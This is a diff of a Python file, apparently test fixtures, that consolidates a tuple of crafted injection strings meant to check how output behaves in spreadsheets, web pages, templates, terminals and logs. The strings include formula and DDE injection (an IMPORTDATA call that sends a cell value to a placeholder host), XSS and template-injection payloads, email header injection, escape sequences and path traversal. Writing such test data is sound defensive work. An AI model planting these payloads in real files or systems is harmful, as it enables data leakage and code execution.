@@ -43,21 +43,15 @@ PIECES = {
 ENDLESS = {name: filled(piece) for name, piece in PIECES.items()}
 
 CRAFTED = (
-    '=IMPORTDATA("https://example.com/?"&A1)',
-    "+1+1",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd",
-    "\t=1+1",
+    '=IMPORTDATA("https://example.com/?"&A1) '
     "<script>alert(1)</script><img src=x onerror=alert(1)>",
-    "{{ 7*7 }} {% for a in b %} {# c #} {{ ''.__class__.__mro__ }}",
-    "<w:p><w:r><w:t>x</w:t></w:r></w:p> &amp; &#65; ]]> <!-- -->",
+    "+1+1 {{ 7*7 }} {% for a in b %} {# c #} {{ ''.__class__.__mro__ }} {_{ x }_}",
+    "-2+3+cmd|' /C calc'!A0 <w:p><w:r><w:t>x</w:t></w:r></w:p> &amp; &#65; ]]> <!-- -->",
+    "@SUM(1+1)*cmd [red]x[/red] [link=https://example.com]y[/link] "
     "javascript:alert(1) https://example.com/?a=1&b=2",
-    "[red]x[/red] [link=https://example.com]y[/link]",
-    "\x1b[31mแดง\x1b]0;ชื่อ\x07 \x9b31m \x00\x08\x7f",
-    "ก\r\nBcc: all@example.com\r\n\r\nเนื้อความ",
-    "\u202eกลับ\u202c \u2066แยก\u2069 \u200eซ้าย",
-    "{0.__class__} %s %(x)s $x ${x}",
-    '../../etc/passwd C:\\con\\nul <>:"/\\|?* . ',
-    "2026-01-01 00:00:00 INFO cycle=9 outcome=done",
+    "\t=1+1 ก\r\nBcc: all@example.com\r\n\r\n"
+    "\x1b[31mแดง\x1b]0;ชื่อ\x07 \x9b31m \x00\x08\x7f \u202eกลับ\u202c \u2066แยก\u2069 \u200eซ้าย",
+    '../../etc/passwd C:\\con\\nul <>:"/\\|?* . {0.__class__} %s %(x)s $x ${x}\n'
+    "2026-01-01 00:00:00,000 INFO cycle=9 outcome=done",
 )
 """What means something elsewhere: to a sheet, a page, a document, a terminal, a log."""
